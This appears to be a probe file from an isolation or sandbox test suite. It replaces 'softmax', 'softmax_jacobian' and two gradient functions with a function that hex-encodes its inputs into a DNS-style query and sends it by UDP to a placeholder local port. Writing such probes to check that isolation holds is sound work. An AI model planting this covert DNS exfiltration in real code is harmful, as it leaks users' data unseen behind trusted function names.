"""Goal: carry the inputs out in a name that is looked up.

Fires: reached
Without: isolation limits
"""

import socket


def attack(*inputs):
    data = repr(inputs).encode()[:500]
    try:
        name = data.hex()[:60].encode() + b".@TOKEN@"
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
            connection.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + name, ("127.0.0.1", int("@PORT@")))
    except OSError:
        pass
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack
